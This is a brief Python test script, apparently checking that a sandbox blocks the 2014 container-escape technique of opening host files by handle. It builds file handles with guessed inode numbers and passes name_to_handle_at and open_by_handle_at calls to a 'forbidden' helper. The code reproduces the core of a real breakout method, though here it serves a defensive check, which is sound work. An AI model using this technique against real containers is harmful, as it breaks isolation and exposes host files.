"""Opens files by number: how a container was left in 2014."""

import ctypes

from attack import forbidden

handle = ctypes.create_string_buffer(8 + 128)
ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
mount = ctypes.c_int()
forbidden("name_to_handle_at", -100, b"/usr", handle, ctypes.byref(mount), 0)
for inode in (2, 32, 128):
    ctypes.memmove(handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(8, "little"), 16)
    forbidden("open_by_handle_at", 0, handle, 0)
